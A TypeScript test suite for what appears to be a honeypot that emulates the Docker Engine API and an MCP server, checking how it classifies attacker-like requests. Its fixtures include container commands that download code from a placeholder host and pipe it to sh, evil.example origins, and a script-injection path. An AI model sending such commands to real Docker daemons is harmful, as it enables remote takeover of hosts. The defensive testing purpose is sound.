import { describe, expect, it } from 'vitest';
import type { StreamEmulator } from './emulator.ts';
import { docker } from './emulators/docker.ts';
import { emulators } from './emulators/index.ts';
import { mcp } from './emulators/mcp.ts';
import { Memory } from './memory.ts';
import { meet } from './play.ts';

type Headers = Record<string, string>;

const request = (method: string, target: string, headers: Headers = {}, body = '') =>
  `${method} ${target} HTTP/1.1\r\n${Object.entries({
    Host: '198.51.100.1:2375',
    ...headers,
    'Content-Length': `${body.length}`,
  })
    .map(([name, value]) => `${name}: ${value}\r\n`)
    .join('')}\r\n${body}`;
const json = { 'Content-Type': 'application/json', 'User-Agent': 'curl/8.5.0' };

async function tell(emulator: StreamEmulator, memory: Memory, text: string) {
  const talk = meet(emulator, { memory });
  const said = (await talk.say(text)) + (await talk.leave());
  return { said, events: talk.events, proofs: new Set(talk.events.map(({ handshake }) => handshake)) };
}

/** Makes a container as a tool does; its id. */
async function made(memory: Memory): Promise<string> {
  await tell(docker, memory, request('POST', '/images/create?fromImage=alpine'));
  const body = JSON.stringify({ Image: 'alpine', Cmd: ['sh', '-c', 'wget http://192.0.2.9/x -O - | sh'] });
  const { said, proofs } = await tell(docker, memory, request('POST', '/containers/create', json, body));
  expect([...proofs]).toEqual(['relayed']);
  return /"Id":"([0-9a-f]{64})"/.exec(said)![1]!;
}

describe('who says back what he was answered', () => {
  it('speaks for himself: start, exec and what they run are proven', async () => {
    const memory = new Memory();
    const id = await made(memory);
    const started = await tell(docker, memory, request('POST', `/v1.41/containers/${id.slice(0, 12)}/start`));
    const own = started.events.filter(({ handshake }) => handshake === 'established');
    expect(own.map(({ kind }) => kind)).toEqual(expect.arrayContaining(['request', 'download']));
  });

  it('speaks for himself at an MCP server, once he goes on with the session that he was given', async () => {
    const memory = new Memory();
    const headers = { ...json, Accept: 'application/json, text/event-stream' };
    const call = (method: string) => JSON.stringify({ jsonrpc: '2.0', id: 1, method, params: {} });
    const first = await tell(mcp, memory, request('POST', '/mcp', headers, call('initialize')));
    expect([...first.proofs]).toEqual(['relayed']);
    const id = /mcp-session-id: (\w+)/.exec(first.said)![1]!;
    const next = await tell(
      mcp,
      memory,
      request('POST', '/mcp', { ...headers, 'Mcp-Session-Id': id }, call('tools/list')),
    );
    expect(next.events.find(({ kind }) => kind === 'command')?.handshake).toBe('established');
    const guessed = await tell(
      mcp,
      memory,
      request('POST', '/mcp', { ...headers, 'Mcp-Session-Id': '0'.repeat(32) }, call('tools/list')),
    );
    expect([...guessed.proofs]).toEqual(['relayed']);
  });
});

describe('stays a relay’s', () => {
  const browser = {
    'User-Agent': 'Mozilla/5.0 (X11; Linux x86_64)',
    'Accept-Language': 'en',
    'Accept-Encoding': 'gzip',
  };
  const hook = JSON.stringify({ Image: 'alpine', Cmd: ['sh', '-c', 'curl 192.0.2.9|sh'] });
  it.each<[string, string, string, Headers, string]>([
    ['a picture on a page', 'GET', '/containers/json', browser, ''],
    ['a form', 'POST', '/containers/create', { ...browser, 'Content-Type': 'text/plain' }, hook],
    ['a preflight', 'OPTIONS', '/containers/create', { ...browser, Origin: 'http://evil.example' }, ''],
    ['a ping of a link', 'POST', '/containers/x/start', { ...browser, 'Content-Type': 'text/ping' }, 'PING'],
    [
      'a report of a policy',
      'POST',
      '/containers/create',
      { ...browser, 'Content-Type': 'application/csp-report' },
      '{}',
    ],
    [
      'a page whose name was rebound',
      'POST',
      '/containers/create',
      { ...json, Host: 'evil.example:2375' },
      hook,
    ],
    ['a web hook with JSON', 'POST', '/containers/create', json, hook],
    ['a server that is made to send any method', 'DELETE', '/containers/aaaaaaaaaaaa', json, ''],
    ['a server without an agent', 'PUT', '/containers/aaaaaaaaaaaa/archive?path=/', {}, 'x'],
  ])('%s', async (_, method, target, headers, body) => {
    const { proofs } = await tell(docker, new Memory(), request(method, target, headers, body));
    expect([...proofs]).toEqual(['relayed']);
  });

  it('who knows an id that was told to another address, or that everybody sees', async () => {
    const id = await made(new Memory());
    const victim = new Memory();
    const { said } = await tell(docker, victim, request('GET', '/containers/json'));
    const shared = /"Id":"([0-9a-f]{64})"/.exec(said)![1]!;
    for (const one of [id, shared]) {
      const { proofs } = await tell(docker, victim, request('GET', `/containers/${one}/json`));
      expect([...proofs]).toEqual(['relayed']);
    }
  });

  it('who knows the id by a name that may be rebound, or as a page', async () => {
    const memory = new Memory();
    const id = await made(memory);
    for (const headers of [
      { Host: 'evil.example' },
      { Origin: 'http://evil.example' },
      { 'Sec-Fetch-Mode': 'cors' },
    ] as Headers[]) {
      const { proofs } = await tell(docker, memory, request('POST', `/containers/${id}/start`, headers));
      expect([...proofs]).toEqual(['relayed']);
    }
  });

  it('who marks it himself', async () => {
    const body = JSON.stringify({ Image: 'alpine', Cmd: ['x'], detail: { echo: true }, echo: true });
    const { proofs } = await tell(
      docker,
      new Memory(),
      request('POST', '/containers/create', { ...json, echo: 'true' }, body),
    );
    expect([...proofs]).toEqual(['relayed']);
  });
});

describe.each(emulators.filter(({ name }) => /^(docker|mcp)$/.test(name)))('$name', (emulator) => {
  it('allows no page to read its answers, and shows none', async () => {
    for (const [method, target] of [
      ['OPTIONS', '/containers/create'],
      ['OPTIONS', '/mcp'],
      ['GET', '/version'],
      ['GET', '/<script>alert(1)</script>'],
      ['POST', '/mcp'],
    ] as const) {
      const headers = { Origin: 'http://evil.example', 'Access-Control-Request-Method': 'PUT' };
      const { said } = await tell(emulator as StreamEmulator, new Memory(), request(method, target, headers));
      expect(said).not.toMatch(/access-control-allow/i);
      expect(said).not.toMatch(/content-type: *text\/html/i);
    }
  });
});
